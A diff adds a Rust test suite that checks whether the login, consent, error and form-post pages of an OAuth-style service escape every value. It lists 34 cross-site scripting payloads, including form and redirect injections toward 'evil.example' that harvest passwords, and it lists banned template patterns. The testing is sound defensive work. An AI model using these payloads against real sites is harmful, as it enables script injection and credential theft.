@@ -1,0 +1,196 @@
+//! No page lets a value become markup.
+
+use std::path::Path;
+
+use super::*;
+
+const PAYLOADS: [&str; 34] = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><img src=x onerror=alert(1)>",
+    "'\"><svg/onload=alert(1)>",
+    "<svg><script>alert&#40;1&#41;</script></svg>",
+    "\" onfocus=\"alert(1)\" autofocus=\"",
+    "' onmouseover='alert(1)",
+    "\" style=\"position:fixed\" x=\"",
+    "\" formaction=\"javascript:alert(1)",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "--!><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<base href=\"https://evil.example/\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+    "<form action=https://evil.example/><input name=password>",
+    "</form><form action=\"https://evil.example/\">",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#34;&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&quot; onfocus=&quot;alert(1)",
+    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "\u{ff1c}script\u{ff1e}alert(1)<\u{2028}script>",
+    "`-alert(1)-`<x y=`",
+    "{{ state }}{% raw %}<b>${7*7}",
+    "\r\n\r\n<script>alert(1)</script>",
+    "\\u003cscript\\u003ealert(1)\\\"><x>",
+];
+
+/// Every page with `value` in all its text fields.
+fn pages(value: &str) -> Vec<(&'static str, String)> {
+    let text = || value.to_owned();
+    // Where an address is needed, the value can only come as a part of one.
+    let address = format!("https://app.example/{value}");
+    let callback =
+        WebOrigin::of(&address).map_or("https://app.example/".to_owned(), |_| address.clone());
+    let scope = |description| RequestedScope::new(text(), description);
+    let login = |error| Login {
+        client_name: text(),
+        logo: Some(LogoUri::parse(&address).unwrap()),
+        tenant_name: text(),
+        username: text(),
+        error,
+        state: text(),
+    };
+    let consent = Consent {
+        client_name: text(),
+        user: text(),
+        scopes: vec![scope(None), scope(Some(text()))],
+        state: text(),
+    };
+    let confirm = ConfirmCallback {
+        client_name: text(),
+        destination: text(),
+        state: text(),
+    };
+    let error = ErrorPage {
+        status: StatusCode::BAD_REQUEST,
+        code: text(),
+        description: text(),
+        tracking: text(),
+    };
+    let form_post = FormPost::new(
+        callback,
+        vec![(text(), text()), ("state".to_owned(), text())],
+    );
+    let message = [(text(), serde_json::Value::String(text()))]
+        .into_iter()
+        .collect();
+    let web_message = WebMessage::new(WebOrigin::of("https://app.example").unwrap(), message);
+    vec![
+        ("login", login(None).render().unwrap()),
+        ("login with an error", login(Some(text())).render().unwrap()),
+        ("consent", consent.render().unwrap()),
+        ("confirm_callback", confirm.render().unwrap()),
+        ("error", error.render().unwrap()),
+        ("form_post", form_post.unwrap().render().unwrap()),
+        ("web_message", web_message.render().unwrap()),
+        (
+            "logout_confirm",
+            LogoutConfirm { state: text() }.render().unwrap(),
+        ),
+        ("logged_out", LoggedOut.render().unwrap()),
+    ]
+}
+
+/// All that a page's structure can be made of: if no value adds to it, no value has become markup.
+fn structure(page: &str) -> String {
+    page.chars()
+        .filter(|c| matches!(c, '<' | '>' | '"' | '\''))
+        .collect()
+}
+
+#[test]
+fn no_value_changes_the_structure_of_a_page() {
+    let harmless = pages("value");
+    for payload in PAYLOADS {
+        for ((name, page), (_, plain)) in pages(payload).into_iter().zip(&harmless) {
+            assert_eq!(structure(&page), structure(plain), "{name}: {payload:?}");
+        }
+    }
+}
+
+/// A value must arrive whole as well: cutting it would hide what the user is asked about.
+#[test]
+fn a_value_is_shown_as_it_was_given() {
+    let name = "Tom & Jerry's <app>";
+    let shown = "Tom &#38; Jerry&#39;s &#60;app&#62;";
+    for (page, body) in pages(name) {
+        assert!(
+            page == "logged_out" || body.contains(shown),
+            "{page}: {body}"
+        );
+    }
+}
+
+#[test]
+fn the_message_of_a_web_message_page_survives_escaping() {
+    let response = serde_json::json!({ "code": "a\"b'c</p>", "state": "&quot;\u{2028}" });
+    let target = WebOrigin::of("https://app.example").unwrap();
+    let page = WebMessage::new(target, response.as_object().unwrap().clone())
+        .render()
+        .unwrap();
+    let escaped = page
+        .split("data-response=\"")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+        .unwrap();
+    let read = ["&#34;:\"", "&#39;:'", "&#60;:<", "&#62;:>", "&#38;:&"]
+        .iter()
+        .fold(escaped.to_owned(), |text, pair| {
+            let (entity, character) = pair.split_once(':').unwrap();
+            text.replace(entity, character)
+        });
+    assert_eq!(
+        serde_json::from_str::<serde_json::Value>(&read).unwrap(),
+        response
+    );
+}
+
+/// What the escaping relies on: it is never switched off, and no value stands where it would not do.
+#[test]
+fn templates_keep_to_the_rules() {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
+    let mut seen = 0;
+    for entry in std::fs::read_dir(folder).unwrap() {
+        let path = entry.unwrap().path();
+        let text = std::fs::read_to_string(&path).unwrap();
+        let without_blanks: String = text.split_whitespace().collect();
+        for banned in [
+            "|safe",
+            "|escape",
+            "{%filter",
+            "style=",
+            "<style",
+            "javascript:",
+        ] {
+            assert!(!without_blanks.contains(banned), "{path:?}: {banned}");
+        }
+        for (before, _) in text.match_indices("{{").map(|(at, _)| text.split_at(at)) {
+            let Some((_, tag)) = before.rsplit_once('<') else {
+                continue;
+            };
+            let quoted = tag.matches('"').count() % 2 == 1;
+            assert!(tag.contains('>') || quoted, "{path:?}: unquoted value");
+        }
+        let handler = |word: &str| word.starts_with("on") && word.contains('=');
+        assert!(
+            !text.split_whitespace().any(handler),
+            "{path:?}: event handler"
+        );
+        for script in text.split("<script").skip(1) {
+            let (tag, content) = script.split_once('>').unwrap();
+            assert!(
+                tag.contains("src=\"") && content.starts_with("</script>"),
+                "{path:?}: inline script"
+            );
+        }
+        seen += 1;
+    }
+    assert!(seen > 0, "no templates were read");
+}
